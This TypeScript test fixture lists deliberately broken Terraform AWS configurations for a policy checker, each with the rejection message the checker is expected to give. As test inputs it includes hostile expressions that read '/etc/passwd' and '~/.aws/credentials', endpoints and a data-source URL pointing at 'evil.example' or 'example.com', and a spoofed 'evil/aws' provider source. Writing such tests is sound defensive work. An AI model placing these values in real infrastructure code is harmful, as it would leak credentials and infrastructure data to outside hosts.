/** Secrets, alarms, keys, and what concerns the whole stack. */
import { at } from './bench';
import { Breaks, UNRESOLVED } from './breaks-table';

const table = new Breaks();
const { add, set, remove } = table;

const DB = 'aws_db_instance.database';
const BUCKET = 'aws_s3_bucket.requests';
const LIFECYCLE = 'aws_s3_bucket_lifecycle_configuration.requests_lifecycle';

const GROUP = 'aws_cloudwatch_log_group.error';
const ALARM = 'aws_cloudwatch_metric_alarm.alarm';
remove('alarms-route', 'aws_sns_topic_subscription.subscription', ALARM, 'which nobody is subscribed to');
set('alarms-route', ALARM, 'alarm_actions', [], 'alarm_actions is empty');
set('alarms-route', ALARM, 'ok_actions', undefined, 'ok_actions is empty');
set('alarms-route', ALARM, 'alarm_actions', [UNRESOLVED], 'cannot decide: alarm_actions');
add('alarms-route', 'aws_db_event_subscription.events', 'cannot decide: sns_topic is "elsewhere"', (tree) => {
  tree.resource.aws_db_event_subscription = { events: { sns_topic: 'elsewhere' } };
});
set('alarms-missing-data', ALARM, 'treat_missing_data', undefined, 'treat_missing_data is absent');
set('alarms-missing-data', ALARM, 'treat_missing_data', UNRESOLVED, 'cannot decide: treat_missing_data');
set('log-retention', GROUP, 'retention_in_days', 0, 'retention_in_days is 0, expected at least 1 day');
set('log-retention', GROUP, 'retention_in_days', undefined, 'retention_in_days is absent');
remove('log-retention', GROUP, DB, 'no aws_cloudwatch_log_group is named /aws/rds/instance/balrog/error');
set('encryption-at-rest', 'aws_sns_topic.topic', 'kms_master_key_id', undefined, 'kms_master_key_id is absent');
set('encryption-at-rest', 'aws_sns_topic.topic', 'kms_master_key_id', UNRESOLVED, 'cannot decide: kms_master_key_id');

const KEY = 'aws_kms_key.key';
set('kms-rotation', KEY, 'enable_key_rotation', undefined, 'enable_key_rotation is absent, expected true');
set('kms-deletion-window', KEY, 'deletion_window_in_days', 7, 'deletion_window_in_days is 7, expected at least 30');
const UNHEARD = 'no rule of EventBridge hears of DisableKey and ScheduleKeyDeletion in us-west-2';
const HEARING = 'aws_cloudwatch_event_rule.keys';
remove('key-changes-noticed', 'aws_cloudwatch_event_target.keys_target', KEY, UNHEARD);
for (const pattern of [
  { detail: { eventName: ['DisableKey'] } },
  { detail: { eventName: ['DisableKey', 'ScheduleKeyDeletion'], requestParameters: { keyId: ['1'] } } },
]) {
  add('key-changes-noticed', KEY, UNHEARD, (tree) => {
    at(tree, HEARING).event_pattern = JSON.stringify(pattern);
  });
}
add('key-changes-noticed', 'aws_kms_key.other', 'ScheduleKeyDeletion in us-east-2', (tree) => {
  tree.resource.aws_kms_key!.other = { ...at(tree, KEY), region: 'us-east-2' };
});
remove('key-changes-noticed', 'aws_cloudwatch_metric_alarm.keys_alarm', KEY, 'no alarm counts what the rule hears');

set('prevent-destroy', KEY, 'lifecycle', undefined, 'lifecycle.prevent_destroy is absent, expected true');
set('prevent-destroy', DB, 'lifecycle', { prevent_destroy: false }, 'lifecycle.prevent_destroy is false');

const PROMISED_OPERATION = 'aws_ssm_parameter.promised_operation';
const PROMISED_DATABASE = 'aws_ssm_parameter.promised_generations_balrog';
for (const [promise, condition] of [
  [PROMISED_OPERATION, 'no precondition asks ${local.deployed.number < 7 ||'],
  [
    PROMISED_DATABASE,
    'no precondition asks ${!contains(keys(local.promised), "/balrog/prod/promised/generations/balrog")',
  ],
] as const) {
  set('promises-kept', promise, 'lifecycle', undefined, condition);
  add('promises-kept', promise, condition, (tree) => {
    at(tree, promise).lifecycle.precondition[0].condition = '${true}';
  });
}
remove('promises-kept', PROMISED_OPERATION, 'aws_ssm_parameter', 'keeps the number of the last operation');
remove('promises-kept', PROMISED_DATABASE, DB, '/balrog/prod/promised/generations/balrog keeps its resource_id');
add('promises-kept', DB, 'generations/balrog keeps its resource_id', (tree) => {
  at(tree, PROMISED_DATABASE).insecure_value = 'db-1';
});
set('promises-kept', PROMISED_OPERATION, 'insecure_value', '8', 'insecure_value is "8", expected {"number"');
add('promises-kept', 'aws_ssm_parameter', 'keeps the number of the last operation', (tree) => {
  at(tree, PROMISED_OPERATION).name = '/elsewhere';
});
add(
  'promises-kept',
  'aws_db_instance.other',
  'no aws_ssm_parameter /balrog/prod/promised/generations/other keeps its resource_id',
  (tree) => {
    tree.resource.aws_db_instance!.other = { ...at(tree, DB), identifier: 'other' };
  },
);
for (const [name, argument, value, says] of [
  [
    'aws_ssm_parameters_by_path.promised',
    'depends_on',
    [DB],
    'no data.aws_ssm_parameters_by_path reads …/prod/promised',
  ],
  [
    'aws_ssm_parameters_by_path.promised',
    'recursive',
    false,
    'no data.aws_ssm_parameters_by_path reads …/prod/promised',
  ],
  [
    'aws_ssm_parameters_by_path.promised',
    'path',
    '/balrog/stage/promised',
    'no data.aws_ssm_parameters_by_path reads …/prod/promised',
  ],
  [
    'aws_ssm_parameters_by_path.promised',
    'path',
    '${local.root}/prod/promised',
    'no data.aws_ssm_parameters_by_path reads …/prod/promised',
  ],
  ['aws_db_instances.in_account', 'tags', { a: 'b' }, 'no data.aws_db_instances reads all databases'],
] as const) {
  add('promises-kept', 'aws_ssm_parameter', says, (tree) => {
    at(tree, `data.${name}`)[argument] = value;
  });
}
for (const name of ['promised', 'deployed']) {
  add('promises-kept', 'aws_ssm_parameter', `local.${name} is "\${{}}", expected`, (tree) => {
    tree.locals[name] = '${{}}';
  });
}

for (const loop of ['count', 'for_each', 'dynamic']) set('plain-resources', BUCKET, loop, 2, `uses ${loop}`);
set('plain-resources', BUCKET, 'provisioner', [{ 'local-exec': {} }], 'has a provisioner');
add('plain-resources', 'module.vpc', 'is a Terraform module', (tree) => {
  tree.module = { vpc: { source: 'terraform-aws-modules/vpc/aws' } };
});

const elsewhere = (address: string): string => `refers to ${address}, which is not in the stack prod`;
set('references-declared', DB, 'kms_key_id', '${aws_kms_key.other.arn}', elsewhere('aws_kms_key.other'));
add('references-declared', BUCKET, elsewhere('data.terraform_remote_state.stage'), (tree) => {
  const name = '${join("-", [data.terraform_remote_state.stage.outputs.name])}';
  Object.assign(tree.resource.aws_s3_bucket!.requests!, { tags: { deep: [{ name }] } });
});

const provider = (rule: string, attribute: string, value: unknown, says: string): void =>
  add(rule, 'provider.aws', says, (tree) => {
    tree.provider.aws[0][attribute] = value;
  });
provider('tags-present', 'default_tags', undefined, 'default_tags has Application absent');
provider('tags-present', 'default_tags', [{ tags: { Application: ' ' } }], 'default_tags has Application " "');
provider('allowed-account-ids', 'allowed_account_ids', undefined, 'allowed_account_ids is absent');
provider('allowed-account-ids', 'allowed_account_ids', ['444455556666'], 'expected ["111122223333"]');
provider('allowed-account-ids', 'allowed_account_ids', ['111122223333', '444455556666'], 'expected ["111122223333"]');
add('tags-present', 'provider.google', 'default_labels has environment absent', (tree) => {
  tree.provider.google = [{ default_labels: { application: 'balrog' } }];
});

add('allowed-account-ids', 'provider.aws', 'there is none', (tree) => {
  delete tree.provider;
});
set(
  'no-ignored-changes',
  DB,
  'lifecycle',
  { prevent_destroy: true, ignore_changes: 'all' },
  'ignore_changes is ["all"]',
);
set('no-ignored-changes', BUCKET, 'lifecycle', { prevent_destroy: true, ignore_changes: ['tags'] }, 'is ["tags"]');

const BUCKET_OF_NAME = 'aws_s3_bucket.named';
for (const [to, id, says] of [
  [BUCKET_OF_NAME, 'theirs', 'adopts "theirs", and its bucket is "ours"'],
  [BUCKET_OF_NAME, undefined, 'adopts absent, and its bucket is "ours"'],
  [BUCKET_OF_NAME, 'a/theirs', 'adopts "a/theirs", and its bucket is "ours"'],
] as const)
  add('imports-own', to, says, (tree) => {
    tree.resource.aws_s3_bucket!.named = { bucket: 'ours' };
    tree.import = [{ to, id }];
  });
for (const to of ['aws_iam_role.role', 'aws_s3_bucket.nowhere'])
  add('imports-own', to === 'aws_iam_role.role' ? to : 'import', 'which is none of aws_backup_vault', (tree) => {
    tree.import = [{ to, id: 'theirs' }];
  });
add('imports-own', 'aws_kms_key.named', 'adopts "alias/theirs", which is no id of a key', (tree) => {
  tree.resource.aws_kms_key!.named = { ...at(tree, 'aws_kms_key.key') };
  tree.import = [{ to: 'aws_kms_key.named', id: 'alias/theirs' }];
});
for (const arn of [
  'arn:aws:secretsmanager:us-west-2:111122223333:secret:theirs-AbCdEf',
  'arn:aws:secretsmanager:us-west-2:999999999999:secret:ours-AbCdEf',
])
  add('imports-own', 'aws_secretsmanager_secret.named', `adopts "${arn}", and its name is "ours"`, (tree) => {
    tree.resource.aws_secretsmanager_secret!.named = { name: 'ours' };
    tree.import = [{ to: 'aws_secretsmanager_secret.named', id: arn }];
  });

const BACKEND = 'terraform.backend.s3';
for (const [key, value, says] of [
  ['encrypt', undefined, 'encrypt is absent, expected true'],
  ['use_lockfile', false, 'use_lockfile is false, expected true'],
  ['bucket', '', 'bucket is "", expected a name'],
  ['key', 'shared/state', 'key is "shared/state", expected "prod/terraform.tfstate"'],
  // As it was attacked: beside the old state, where everything is made once more.
  ['bucket', 'balrog-prod-terraform-state-999999999999', 'expected "balrog-prod-terraform-state-'],
  ['region', 'eu-central-1', 'region is "eu-central-1", expected "us-west-2"'],
  ['key', 'prod/other.tfstate', 'key is "prod/other.tfstate", expected "prod/terraform.tfstate"'],
] as const) {
  add('state-backend', BACKEND, says, (tree) => {
    tree.terraform.backend.s3[key] = value;
  });
}
for (const [value, says] of [
  [undefined, 'kms_key_id is absent, expected the alias of the key that the bootstrap stack makes'],
  ['', 'kms_key_id is "", expected the alias'],
] as const) {
  add('state-backend', BACKEND, says, (tree) => {
    tree.terraform.backend.s3.kms_key_id = value;
  });
}
// The stack that makes the bucket and the key leaves the choice to the bucket.
add('state-backend', BACKEND, 'encrypt is true, expected none: this stack makes the key', (tree) => {
  tree.terraform.backend.s3.bucket = at(tree, BUCKET).bucket;
  const [rule] = [at(tree, 'aws_s3_bucket_server_side_encryption_configuration.requests_encryption').rule].flat();
  rule.apply_server_side_encryption_by_default.sse_algorithm = 'aws:kms';
});
add('state-backend', BACKEND, 'the backend is local, expected s3', (tree) => {
  tree.terraform.backend = { local: { path: 'x' } };
});

add('state-backend', BACKEND, 'the state is also sent to local, cloud, expected s3 alone', (tree) => {
  tree.terraform.backend.local = { path: 'x' };
  tree.terraform.cloud = { organization: 'elsewhere' };
});
const requires = (local: string, block: unknown, says: string): void =>
  add('providers-known', `terraform.required_providers.${local}`, says, (tree) => {
    tree.terraform.required_providers[local] = block;
  });
requires('aws', { source: 'evil/aws', version: '6.25.0' }, 'the source is "evil/aws", expected "hashicorp/aws"');
requires('aws', { source: 'example.com/hashicorp/aws', version: '6.25.0' }, 'the source is "example.com/');
requires('aws', { source: 'hashicorp/aws', version: '>= 6' }, 'the version is ">= 6", expected one exact version');
requires('aws', { source: 'hashicorp/aws' }, 'the version is absent');
requires(
  'http',
  { source: 'hashicorp/http', version: '3.5.0' },
  '"hashicorp/http" is a provider that no stack may use',
);
// Named by the types alone, by a block alone, or by an argument of a resource.
add('providers-known', 'data.http.h', 'needs the provider "http", which the stack does not require', (tree) => {
  tree.data.http = { h: { url: 'https://example.com/${aws_db_instance.database.address}' } };
});
add('providers-known', 'provider.null', 'needs the provider "null"', (tree) => {
  tree.provider.null = [{}];
});
set('providers-known', BUCKET, 'provider', 'other.east', 'needs the provider "other"');

const beside = (address: string, says: string, edit: Parameters<typeof add>[3]): void =>
  add('closed-stack', address, says, edit);
for (const part of ['check', 'ephemeral', 'variable', 'action', 'data_sources']) {
  beside('stack', `has "${part}", which no stack may have`, (tree) => {
    (tree as Record<string, unknown>)[part] = { x: { data: { external: { x: { program: ['sh', '-c', 'true'] } } } } };
  });
}
for (const argument of ['endpoints', 'assume_role', 'profile', 'shared_credentials_files', 'insecure', 'http_proxy']) {
  beside('provider.aws', `has "${argument}", which no stack may have`, (tree) => {
    tree.provider.aws[0][argument] = 'x';
  });
}
beside('terraform', 'has "provider_meta"', (tree) => {
  tree.terraform.provider_meta = { aws: { module_name: 'x' } };
});
beside('terraform.backend.s3', 'has "endpoints"', (tree) => {
  tree.terraform.backend.s3.endpoints = { s3: 'https://evil.example' };
});
for (const [expression, called] of [
  ['${file("/etc/passwd")}', 'file'],
  ['${filebase64(pathexpand("~/.aws/credentials"))}', 'pathexpand'],
  ['${jsonencode({ a = "${templatefile("x", {})}" })}', 'templatefile'],
  ['now ${timestamp()}', 'timestamp'],
  ['%{ if true }${uuid()}%{ endif }', 'uuid'],
  ['${sensitive("https://evil.example")}', 'sensitive'],
  ['${provider::aws::arn_parse("x")}', 'provider::aws::arn_parse'],
] as const)
  beside(BUCKET, `calls ${called}(), which no expression may`, (tree) => {
    at(tree, BUCKET).tags = { Deep: [expression] };
  });
beside('output', 'calls file(), which no expression may', (tree) => {
  tree.output = { evil: { value: '${file("/etc/passwd")}' } };
});

set('no-empty-blocks', DB, 'blue_green_update', {}, 'blue_green_update is written {}');
set('no-empty-blocks', DB, 'blue_green_update', [{}], 'blue_green_update is written {}');
add('no-empty-blocks', 'aws_service_discovery_service.s', 'dns_config.dns_records is written {}', (tree) => {
  tree.resource.aws_service_discovery_service = { s: { name: 's', dns_config: { dns_records: [{}] } } };
});
// A block that the web ACL keeps, of a type that does not.
add('no-empty-blocks', 'aws_lb_listener_rule.r', 'action.allow is written {}', (tree) => {
  tree.resource.aws_lb_listener_rule = { r: { action: [{ allow: {} }] } };
});

set('no-deprecated-arguments', BUCKET, 'acl', 'private', 'acl is deprecated');
set('no-deprecated-arguments', LIFECYCLE, 'rule', [{ prefix: 'x' }], 'rule.prefix is deprecated');
add('no-deprecated-arguments', 'aws_s3_bucket_object.o', 'aws_s3_bucket_object is deprecated', (tree) => {
  tree.resource.aws_s3_bucket_object = { o: { bucket: 'b', key: 'k' } };
});
set('no-deprecated-arguments', GROUP, 'name', 'a-${data.aws_region.here.name}', 'reads data.aws_region.here.name');

export const stackBreaks = table.all;
